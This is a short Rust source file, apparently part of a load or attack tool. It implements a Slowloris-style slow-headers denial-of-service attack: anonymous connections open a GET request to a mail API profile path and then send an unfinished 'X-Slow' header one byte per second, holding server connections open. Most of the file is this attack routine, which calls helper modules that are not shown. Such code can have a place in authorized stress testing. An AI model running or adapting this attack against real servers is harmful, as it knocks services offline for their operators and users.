//! Anonymous connections that send the head of a request byte by byte, one byte a second.

use std::sync::Arc;

use super::connection::head;
use super::scene::AttackContext;
use super::slow::{self, SlowConnections};

/// Runs the attack until it is over.
pub async fn run(scene: &Arc<AttackContext>) -> anyhow::Result<()> {
    let opening = head("GET", "/mail/v1/users/me/profile", None, "X-Slow: ");
    slow::run_all(
        scene,
        vec![SlowConnections { name: "heads", connections: scene.orders.connections, opening, chunk: b"x" }],
    )
    .await
}
